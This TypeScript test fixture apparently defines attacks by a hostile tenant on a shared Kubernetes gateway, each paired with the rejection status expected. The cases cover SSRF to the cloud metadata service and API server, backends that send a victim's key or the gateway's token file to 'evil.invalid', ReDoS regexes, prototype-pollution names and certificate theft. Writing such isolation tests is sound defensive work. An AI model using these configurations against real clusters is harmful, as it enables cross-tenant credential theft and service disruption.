import { BRIDGE_ADDRESS, SERVERS_ADDRESS } from "../api_server.ts";
import { object, secret, SYSTEM, toBackend } from "../managed_cluster.ts";

/** Namespace of the tenant who attacks, and of the one who is attacked. */
export const EVIL = "evil";
export const VICTIM = "victim";
/** Gateway of the operators, which takes routes of all namespaces. */
export const SHARED = { name: "shared", namespace: "edge" };
/** Issuer of the tokens that the victim accepts. */
export const ISSUER = "https://idp.example.com";
const CERTIFICATE = "gateway.internal-controller-certificate";
const ROUTES = "gateway.networking.k8s.io";

/** A hostile object, and what has to become of it. */
export interface Attack {
  /** Completes "a tenant cannot …". */
  readonly tries: string;
  readonly objects: readonly ReturnType<typeof object>[];
  /** Kind, name, and what the status has to say; without it, the object has no status. */
  readonly status?: readonly [kind: string, name: string, says: RegExp];
  /** The API server rejects the last of the objects. */
  readonly isRejected?: true;
  /** Path of the shared gateway, at the host of the tenant, and the status of its responses. */
  readonly request?: readonly [path: string, status: number];
}

/** A gateway of the tenant. */
function gateway(name: string, spec: object, metadata: object = {}) {
  return object("Gateway", `${EVIL}/${name}`, {
    spec: {
      gatewayClassName: "gateway",
      listeners: [{ name: "http", port: 80, protocol: "HTTP" }],
      ...spec,
    },
  }, metadata);
}

/** A listener at a host of its own. */
function httpsWith(ref: object, host: string) {
  return {
    listeners: [{
      ...{ name: "https", port: 443, protocol: "HTTPS" },
      hostname: `${host}.evil.com`,
      tls: { certificateRefs: [ref] },
    }],
  };
}

/** A route of the shared gateway at the host of the tenant. */
function route(name: string, rule: object, spec: object = {}) {
  return object("HTTPRoute", `${EVIL}/${name}`, {
    spec: {
      parentRefs: [SHARED],
      hostnames: ["evil.example.com"],
      rules: [{ matches: [{ path: { value: `/${name}` } }], ...rule }],
      ...spec,
    },
  });
}

function routeTo(name: string, ...refs: readonly object[]) {
  return route(name, { backendRefs: refs });
}

function grpcRoute(name: string, spec: object) {
  return object("GRPCRoute", `${EVIL}/${name}`, {
    spec: { parentRefs: [SHARED], hostnames: ["grpc.evil.com"], ...spec },
  });
}

function backend(name: string, spec: object) {
  return object("GatewayBackend", `${EVIL}/${name}`, { spec });
}

/** A policy for the route of its name. */
function policy(name: string, traffic: object, targets?: readonly object[]) {
  return object("GatewayPolicy", `${EVIL}/${name}`, {
    spec: {
      targetRefs: targets ?? [{ group: ROUTES, kind: "HTTPRoute", name }],
      traffic,
    },
  });
}

function jwt(jwks: object, more: object = {}) {
  return {
    jwtAuthentication: {
      providers: [{ issuer: "https://evil.example", audiences: ["a"], jwks }],
      ...more,
    },
  };
}

function rateLimit(service: object) {
  return {
    rateLimit: {
      global: {
        domain: "d",
        store: { service },
        descriptors: [{
          ...{ requests: 1, unit: "Minutes" },
          entries: [{ key: "k", value: "'v'" }],
        }],
      },
    },
  };
}

function service(name: string, spec: object = {}) {
  return object("Service", `${EVIL}/${name}`, {
    spec: { clusterIP: "None", ports: [{ name: "p", port: 80 }], ...spec },
  });
}

function slice(name: string, of: string, more: object) {
  return object("EndpointSlice", `${EVIL}/${name}`, {
    addressType: "IPv4",
    endpoints: [],
    ports: [],
    ...more,
  }, { labels: { "kubernetes.io/service-name": of } });
}

/** A ConfigMap of parameters, with the gateway that has them. */
function withParameters(
  name: string,
  data: Readonly<Record<string, string>>,
) {
  return [
    object("ConfigMap", `${EVIL}/${name}`, { data }),
    gateway(name, {
      infrastructure: {
        parametersRef: { group: "", kind: "ConfigMap", name },
      },
    }),
  ];
}

/** A backend at an address, with its route: the requests get 500, or 502 once the address is known. */
function reaching(name: string, spec: object): Attack {
  return {
    tries: `reach ${name}`,
    objects: [backend(name, spec), routeTo(name, toBackend(name))],
    status: ["HTTPRoute", name, /"AddressDenied"/],
    request: [`/${name}`, 500],
  };
}

const notPermitted = /"RefNotPermitted"/;
const invalidBackend = /is invalid; its share of requests gets 500/;
const noGrant = /no ReferenceGrant/;
const victimKey = { name: "key", namespace: VICTIM };
const llm = { provider: "OpenAICompatible", plainText: true };

const gateways: readonly Attack[] = [
  {
    tries: "serve the host of another on a gateway of its own",
    objects: [
      gateway("same", {
        listeners: [{
          ...{ name: "http", port: 80, protocol: "HTTP" },
          hostname: "victim.example.com",
        }],
      }),
    ],
    // It has proxies and an address of its own, which nobody asks for that host.
    status: [
      ...["Gateway", "same"] as const,
      /"status":"True","type":"Programmed"/,
    ],
  },
  {
    tries: "serve with the certificate of another",
    objects: [
      gateway("tls", httpsWith({ name: "tls", namespace: VICTIM }, "tls")),
    ],
    status: ["Gateway", "tls", notPermitted],
  },
  {
    tries: "serve with the certificate of the controller",
    objects: [
      gateway(
        "system",
        httpsWith({ name: CERTIFICATE, namespace: SYSTEM }, "system"),
      ),
    ],
    status: ["Gateway", "system", notPermitted],
  },
  {
    tries: "trust the CAs of another",
    objects: [
      gateway("ca", {
        ...httpsWith({ name: "own" }, "ca"),
        tls: {
          frontend: {
            default: {
              validation: {
                caCertificateRefs: [{
                  ...{ group: "", kind: "ConfigMap" },
                  ...{ name: "ca", namespace: VICTIM },
                }],
              },
            },
          },
        },
      }),
    ],
    status: ["Gateway", "ca", notPermitted],
  },
  {
    tries: "present the certificate of another to backends",
    objects: [
      gateway("client", {
        tls: {
          backend: {
            clientCertificateRef: { name: "tls", namespace: VICTIM },
          },
        },
      }),
    ],
    status: ["Gateway", "client", notPermitted],
  },
  {
    tries: "run an image of its own with the service account of a proxy",
    objects: withParameters("image", { image: "evil/image" }),
    status: ["Gateway", "image", /"InvalidParameters"/],
  },
  {
    tries: "set environment variables of proxies",
    objects: withParameters("env", { env: "[{ name: PATH, value: /evil }]" }),
    status: ["Gateway", "env", /"InvalidParameters"/],
  },
  {
    tries: "run proxies on the host network",
    objects: withParameters("pod", { pod: "hostNetwork: true" }),
    status: ["Gateway", "pod", /"InvalidParameters"/],
  },
  {
    tries: "run a million proxies",
    objects: withParameters("replicas", { replicas: "1000000" }),
    status: ["Gateway", "replicas", /"InvalidParameters"/],
  },
  {
    tries: "take all processors of the nodes",
    objects: withParameters("cpu", { resources: "requests: { cpu: 512 }" }),
    status: ["Gateway", "cpu", /"InvalidParameters"/],
  },
  {
    tries: "have a Service of a type that names hosts",
    objects: withParameters("external", { serviceType: "ExternalName" }),
    status: ["Gateway", "external", /"InvalidParameters"/],
  },
  {
    tries: "use the parameters of another",
    objects: [
      gateway("foreign", {
        infrastructure: {
          parametersRef: { group: "", kind: "Secret", name: "key" },
        },
      }),
    ],
    status: ["Gateway", "foreign", /"InvalidParameters"/],
  },
  {
    tries: "take the address of the API server",
    objects: [
      gateway("address", {
        addresses: [{ type: "IPAddress", value: "10.96.0.1" }],
      }),
    ],
    status: ["Gateway", "address", /"type":"Accepted"/],
  },
  {
    tries: "have an address that is a name",
    objects: [
      gateway("name", {
        addresses: [{ type: "Hostname", value: "kubernetes.default.svc" }],
      }),
    ],
    status: ["Gateway", "name", /"UnsupportedAddress"/],
  },
  {
    tries: "select the pods of another by labels",
    objects: [
      gateway("labels", {
        infrastructure: {
          labels: {
            "gateway.networking.k8s.io/gateway-name": "gw",
            "gateway.internal/gateway-namespace": VICTIM,
          },
        },
      }),
    ],
    status: ["Gateway", "labels", /"InvalidParameters"/],
  },
  {
    tries: "be a part of the gateway by labels",
    objects: [
      gateway("part", {
        infrastructure: {
          labels: {
            "app.kubernetes.io/name": "gateway",
            "app.kubernetes.io/instance": "gateway",
          },
        },
      }),
    ],
    status: ["Gateway", "part", /"InvalidParameters"/],
  },
  {
    tries: "own or hold the objects of another",
    objects: [
      gateway("owner", {}, {
        finalizers: ["example.com/forever"],
        ownerReferences: [{
          ...{ apiVersion: `${ROUTES}/v1`, kind: "Gateway", name: "gw" },
          uid: "00000000-0000-0000-0000-000000000000",
        }],
      }),
    ],
    status: ["Gateway", "owner", /"type":"Accepted"/],
  },
  {
    tries: "be taken for the gateway of another by its name",
    objects: [gateway("victim-gw", {}), gateway("gw", {})],
    status: ["Gateway", "gw", /"type":"Accepted"/],
  },
  {
    tries: "write the status of its gateway itself",
    objects: [{
      ...gateway("spoof", {}),
      ...{ status: { addresses: [{ type: "IPAddress", value: "10.96.0.1" }] } },
    }],
    status: ["Gateway", "spoof", /"type":"Accepted"/],
  },
  {
    tries: "add listeners to the gateway of another",
    objects: [
      object("ListenerSet", `${EVIL}/set`, {
        spec: {
          parentRef: { name: "gw", namespace: VICTIM },
          listeners: [{ name: "x", port: 81, protocol: "HTTP" }],
        },
      }),
    ],
    status: ["ListenerSet", "set", /"NotAllowed"/],
  },
  {
    tries: "add listeners to the shared gateway",
    objects: [
      object("ListenerSet", `${EVIL}/shared`, {
        spec: {
          parentRef: SHARED,
          listeners: [{
            ...{ name: "x", port: 80, protocol: "HTTP" },
            hostname: "victim.example.com",
          }],
        },
      }),
    ],
    status: ["ListenerSet", "shared", /"NotAllowed"/],
  },
];

const routes: readonly Attack[] = [
  {
    tries: "attach a route to the gateway of another",
    objects: [
      route("attach", {}, { parentRefs: [{ name: "gw", namespace: VICTIM }] }),
    ],
    status: ["HTTPRoute", "attach", /"NotAllowedByListeners"/],
  },
  {
    tries: "attach a gRPC route to the gateway of another",
    objects: [
      grpcRoute("attach", { parentRefs: [{ name: "gw", namespace: VICTIM }] }),
    ],
    status: ["GRPCRoute", "attach", /"NotAllowedByListeners"/],
  },
  {
    tries: "take over a route of another on the shared gateway",
    objects: [
      route("steal", {
        matches: [{ path: { value: "/web" } }],
        filters: [{
          type: "RequestRedirect",
          requestRedirect: { hostname: "stolen.example.com" },
        }],
      }, { hostnames: ["victim.example.com"] }),
    ],
    status: ["HTTPRoute", "steal", /"type":"Accepted"/],
  },
  {
    tries: "send requests to the Service of another",
    objects: [
      routeTo("service", { name: "web", namespace: VICTIM, port: 80 }),
    ],
    status: ["HTTPRoute", "service", notPermitted],
    request: ["/service", 500],
  },
  {
    tries: "send gRPC to the Service of another",
    objects: [
      grpcRoute("service", {
        rules: [{
          backendRefs: [{ name: "web", namespace: VICTIM, port: 80 }],
        }],
      }),
    ],
    status: ["GRPCRoute", "service", notPermitted],
  },
  {
    tries: "use the LLM backend of another, with its key",
    objects: [routeTo("llm", toBackend("llm", VICTIM))],
    status: ["HTTPRoute", "llm", notPermitted],
    request: ["/llm", 500],
  },
  {
    tries: "mirror requests to the Service of another",
    objects: [
      route("mirror", {
        filters: [{
          type: "RequestMirror",
          requestMirror: {
            backendRef: { name: "web", namespace: VICTIM, port: 80 },
          },
        }],
      }),
    ],
    status: ["HTTPRoute", "mirror", notPermitted],
  },
  {
    tries: "send requests to Services of the gateway itself",
    objects: [
      routeTo(
        "controller",
        { name: "gateway-controller", namespace: SYSTEM, port: 15030 },
        { name: "gateway-stats", namespace: SYSTEM, port: 15020 },
      ),
    ],
    status: ["HTTPRoute", "controller", notPermitted],
    request: ["/controller", 500],
  },
  {
    tries: "allow itself what only another can",
    objects: [
      object("ReferenceGrant", `${EVIL}/own`, {
        spec: {
          from: [{ group: ROUTES, kind: "HTTPRoute", namespace: EVIL }],
          to: [{ group: "", kind: "Service", name: "web" }],
        },
      }),
      routeTo("granted", { name: "web", namespace: VICTIM, port: 80 }),
    ],
    status: ["HTTPRoute", "granted", notPermitted],
    request: ["/granted", 500],
  },
  {
    tries: "name parents by paths",
    objects: [
      route("parents", {}, {
        parentRefs: [{ name: "../../victim/gateways/gw" }],
      }),
    ],
    status: ["HTTPRoute", "parents", /^(null|\{\}|\{"parents":\[\]\})$/],
  },
  {
    tries: "hold the gateway with slow patterns",
    objects: [
      route("slow", {
        matches: Array.from({ length: 16 }, (_, index) => ({
          path: { type: "RegularExpression", value: `/slow/(a+)+${index}$` },
          headers: [{
            ...{ type: "RegularExpression", name: "x" },
            value: "(a|a)*".repeat(20),
          }],
        })),
      }),
    ],
    status: ["HTTPRoute", "slow", /"type":"Accepted"/],
  },
  {
    tries: "hold the gateway with an invalid pattern",
    objects: [
      route("pattern", {
        matches: [{ path: { type: "RegularExpression", value: "/((((" } }],
      }),
    ],
    status: ["HTTPRoute", "pattern", /"status":"False"/],
  },
  {
    tries: "give an annotation with nonsense",
    objects: [{
      ...routeTo("priorities", { name: "x", port: 80 }),
      metadata: {
        ...{ name: "priorities", namespace: EVIL },
        annotations: {
          "policy.gateway.internal/priorities": "__proto__=1,x=99999999",
        },
      },
    }],
    status: ["HTTPRoute", "priorities", /"status":"False"/],
  },
  {
    tries: "use names of built-in members",
    objects: [
      service("constructor"),
      backend("constructor", { static: { host: "evil.invalid", port: 80 } }),
      routeTo("constructor", toBackend("constructor")),
      route("prototype", {
        matches: [{ headers: [{ name: "__proto__", value: "constructor" }] }],
      }),
    ],
    status: ["HTTPRoute", "prototype", /"type":"Accepted"/],
  },
];

const backends: readonly Attack[] = [
  reaching("metadata-service", {
    static: { host: "169.254.169.254", port: 80 },
  }),
  reaching("metadata-in-ipv6", {
    static: { host: "::ffff:169.254.169.254", port: 80 },
  }),
  reaching("admin-interface", { static: { host: "127.0.0.1", port: 15000 } }),
  reaching("admin-by-name", { static: { host: "localhost", port: 15000 } }),
  reaching("api-server", { static: { host: BRIDGE_ADDRESS, port: 6443 } }),
  reaching("api-server-by-name", {
    static: { host: "kubernetes.default.svc", port: 443 },
  }),
  reaching("controller-by-name", {
    static: { host: `gateway-controller.${SYSTEM}.svc`, port: 15030 },
  }),
  reaching("api-server-as-llm", {
    llm: { ...llm, host: `${BRIDGE_ADDRESS}:6443` },
  }),
  {
    tries: "send the key of another to its own server",
    objects: [
      backend("stolen-key", {
        llm: {
          ...llm,
          host: "evil.invalid:80",
          credentials: { secretRef: victimKey },
        },
      }),
      routeTo("stolen-key", toBackend("stolen-key")),
    ],
    status: ["HTTPRoute", "stolen-key", invalidBackend],
    request: ["/stolen-key", 500],
  },
  {
    tries: "send the controller's key to its own server",
    objects: [
      backend("system-key", {
        llm: {
          ...llm,
          host: "evil.invalid:80",
          credentials: {
            secretRef: { name: CERTIFICATE, namespace: SYSTEM, key: "tls.key" },
          },
        },
      }),
      routeTo("system-key", toBackend("system-key")),
    ],
    status: ["HTTPRoute", "system-key", invalidBackend],
    request: ["/system-key", 500],
  },
  {
    tries: "read a Secret that is not for the gateway",
    objects: [
      secret(`${EVIL}/private`, { apiKey: "x" }),
      backend("unlabelled", {
        llm: {
          ...llm,
          host: "evil.invalid:80",
          credentials: { secretRef: { name: "private" } },
        },
      }),
      routeTo("unlabelled", toBackend("unlabelled")),
    ],
    status: ["HTTPRoute", "unlabelled", invalidBackend],
    request: ["/unlabelled", 500],
  },
  {
    tries: "send a file of the gateway to its own server as a key",
    objects: [
      backend("key-file", {
        llm: {
          ...{ ...llm, host: "evil.invalid:80" },
          credentials: { file: "/var/run/gateway/token" },
        },
      }),
      routeTo("key-file", toBackend("key-file")),
    ],
    status: ["HTTPRoute", "key-file", invalidBackend],
    request: ["/key-file", 500],
  },
  {
    tries: "send a variable of the gateway to its own server as a key",
    objects: [
      backend("key-variable", {
        llm: {
          ...{ ...llm, host: "evil.invalid:80" },
          credentials: { fromEnv: "PATH" },
        },
      }),
      routeTo("key-variable", toBackend("key-variable")),
    ],
    status: ["HTTPRoute", "key-variable", invalidBackend],
    request: ["/key-variable", 500],
  },
  {
    tries: "reach hosts by a Service that is a name",
    objects: [
      service("alias", {
        ...{ type: "ExternalName", clusterIP: undefined },
        externalName: `web.${VICTIM}.svc`,
      }),
      routeTo("alias", { name: "alias", port: 80 }),
    ],
    status: ["HTTPRoute", "alias", /"type":"Accepted"/],
    request: ["/alias", 503],
  },
  {
    tries: "reach the API server by endpoints of its own",
    objects: [
      service("endpoints"),
      slice("endpoints", "endpoints", {
        endpoints: [{ addresses: [BRIDGE_ADDRESS] }],
        ports: [{ name: "p", port: 6443 }],
      }),
      routeTo("endpoints", { name: "endpoints", port: 80 }),
    ],
    status: ["HTTPRoute", "endpoints", /"type":"Accepted"/],
    request: ["/endpoints", 502],
  },
  {
    tries: "add endpoints to the Service of another",
    objects: [
      slice("web", "web", {
        endpoints: [{ addresses: ["10.9.9.9"] }],
        ports: [{ name: "http", port: 80 }],
      }),
    ],
  },
  {
    tries: "reach the gateway itself by endpoints that are names",
    objects: [
      service("names"),
      slice("names", "names", {
        addressType: "FQDN",
        endpoints: [{ addresses: ["localhost"] }],
        ports: [{ name: "p", port: 15000 }],
      }),
      routeTo("names", { name: "names", port: 80 }),
    ],
    status: ["HTTPRoute", "names", /"type":"Accepted"/],
    request: ["/names", 503],
  },
  {
    tries: "change TLS of the backends of another",
    objects: [
      object("BackendTLSPolicy", `${EVIL}/web`, {
        spec: {
          targetRefs: [{ group: "", kind: "Service", name: "web" }],
          validation: {
            hostname: "evil.example",
            caCertificateRefs: [{ group: "", kind: "ConfigMap", name: "-" }],
          },
        },
      }),
    ],
  },
];

const policies: readonly Attack[] = [
  {
    tries: "apply a policy to the route of another",
    objects: [
      policy("web", { directResponse: { status: 403, body: "denied" } }),
    ],
    status: ["GatewayPolicy", "web", /^(null|\{\}|.*TargetNotFound.*)$/],
  },
  {
    tries: "apply a policy to the shared gateway",
    objects: [
      policy("shared", { directResponse: { status: 403, body: "denied" } }, [
        { group: ROUTES, kind: "Gateway", name: SHARED.name },
      ]),
    ],
    status: ["GatewayPolicy", "shared", /^(null|\{\}|.*TargetNotFound.*)$/],
  },
  {
    tries: "fetch keys from the API server",
    objects: [
      route("jwks", {}),
      policy("jwks", jwt({ url: `http://${BRIDGE_ADDRESS}:6443/jwks` })),
    ],
    status: ["GatewayPolicy", "jwks", /denied/],
  },
  {
    tries: "turn the policy of another to pending by its issuer",
    objects: [
      route("issuer", {}),
      policy("issuer", {
        jwtAuthentication: {
          providers: [{
            ...{ issuer: ISSUER, audiences: ["a"] },
            jwks: { url: `http://${SERVERS_ADDRESS}:1/keys` },
          }],
        },
      }),
    ],
    status: ["GatewayPolicy", "issuer", /"Pending"/],
  },
  {
    tries: "fetch keys over the backend of another",
    objects: [
      route("jwks-backend", {}),
      policy(
        "jwks-backend",
        jwt({
          remote: {
            backendRef: { name: "idp", namespace: VICTIM },
            jwksPath: "/keys",
          },
        }),
      ),
    ],
    status: ["GatewayPolicy", "jwks-backend", noGrant],
  },
  {
    tries: "read a file of the gateway as keys",
    objects: [
      route("jwks-file", {}),
      policy("jwks-file", jwt({ file: "/var/run/gateway/token" })),
    ],
    status: ["GatewayPolicy", "jwks-file", /cannot read files of the gateway/],
    request: ["/jwks-file", 500],
  },
  {
    tries: "log in with the secret of another",
    objects: [
      route("login", {}),
      policy(
        "login",
        jwt({ url: "https://evil.invalid/keys" }, {
          mcp: {
            ...{ issuerMode: "Proxied", clientId: "c" },
            clientSecretRef: victimKey,
          },
        }),
      ),
    ],
    status: ["GatewayPolicy", "login", noGrant],
  },
  {
    tries: "count limits over the backend of another",
    objects: [
      route("limit", {}),
      policy(
        "limit",
        rateLimit({ backendRef: { name: "idp", namespace: VICTIM } }),
      ),
    ],
    status: ["GatewayPolicy", "limit", noGrant],
  },
  {
    tries: "count limits at the metadata service",
    objects: [
      route("limit-host", {}),
      policy("limit-host", rateLimit({ host: "169.254.169.254:80" })),
    ],
    status: ["GatewayPolicy", "limit-host", /denied/],
  },
  {
    tries: "hold the gateway with a deep expression",
    objects: [
      route("deep", {}),
      policy("deep", {
        authorization: {
          policy: {
            matchExpressions: [`${"(".repeat(1500)}true${")".repeat(1500)}`],
          },
        },
      }),
    ],
    status: ["GatewayPolicy", "deep", /"status":"False"/],
  },
  {
    tries: "hold the gateway with a large body of a response",
    objects: [
      route("large", {}),
      policy("large", {
        directResponse: { status: 200, body: "x".repeat(900_000) },
      }),
    ],
    isRejected: true,
  },
];

const others: readonly Attack[] = [
  {
    tries: "confuse the gateway with a certificate that is none",
    objects: [
      object("Secret", `${EVIL}/broken`, {
        type: "kubernetes.io/tls",
        stringData: { "tls.crt": "\u0000", "tls.key": "-----BEGIN" },
      }),
      gateway("broken", httpsWith({ name: "broken" }, "broken")),
    ],
    status: ["Gateway", "broken", /"InvalidCertificateRef"/],
  },
  {
    tries: "fill the memory with Secrets and ConfigMaps",
    objects: [
      ...Array.from(
        { length: 4 },
        (_, index) =>
          secret(`${EVIL}/large-${index}`, { apiKey: "x".repeat(900_000) }, {
            labels: { "policy.gateway.internal/credentials": "llm" },
          }),
      ),
      object("ConfigMap", `${EVIL}/large`, {
        data: { "ca.crt": "x".repeat(900_000) },
      }),
    ],
  },
  {
    tries: "read or change objects in the namespace of the gateway",
    objects: [object("ConfigMap", `${SYSTEM}/gateway`, { data: {} })],
    isRejected: true,
  },
  {
    tries: "change the Secrets of another",
    objects: [secret(`${VICTIM}/key`, { apiKey: "stolen" })],
    isRejected: true,
  },
  {
    tries: "grant itself references in the namespace of another",
    objects: [
      object("ReferenceGrant", `${VICTIM}/grant`, {
        spec: {
          from: [{ group: ROUTES, kind: "HTTPRoute", namespace: EVIL }],
          to: [{ group: "", kind: "Service" }],
        },
      }),
    ],
    isRejected: true,
  },
];

/** Attacks of a tenant who may do everything in its namespace, and nothing elsewhere. */
export const attacks: readonly Attack[] = [
  ...gateways,
  ...routes,
  ...backends,
  ...policies,
  ...others,
];
